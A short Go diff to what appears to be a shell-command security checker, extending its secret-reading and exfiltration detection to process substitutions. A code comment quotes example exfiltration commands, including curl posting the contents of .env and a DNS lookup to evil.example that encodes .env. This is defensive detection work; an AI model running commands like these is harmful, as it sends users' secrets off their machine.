@@ -57,7 +57,7 @@ func (ck *checker) stdinSecret(c shellparse.SimpleCommand) bool {
 		}
 	}
 	for _, r := range c.Redirects {
-		if (r.Op == "<" || r.Op == "<>") && (r.Fd == "" || r.Fd == "0") && ck.secretWord(r.Target, true) {
+		if (r.Op == "<" || r.Op == "<>") && (r.Fd == "" || r.Fd == "0") && (ck.secretWord(r.Target, true) || (r.Target.ProcSubst || r.Target.Subst) && ck.substCarriesSecret(r.Target)) {
 			return true
 		}
 	}
@@ -150,7 +150,7 @@ func (ck *checker) exfil(c shellparse.SimpleCommand) {
 		// curl -d "$(cat .env)" URL, dig "$(base64 < .env).evil.example": a
 		// substitution that carries a secret into what the program sends.
 		for _, a := range args {
-			if a.Subst && ck.substCarriesSecret(a) {
+			if (a.Subst || a.ProcSubst) && ck.substCarriesSecret(a) {
 				ck.add("exfiltration", Severe, base+" sends "+clip(a.Text)+", which carries a secret, off the machine")
 				return
 			}
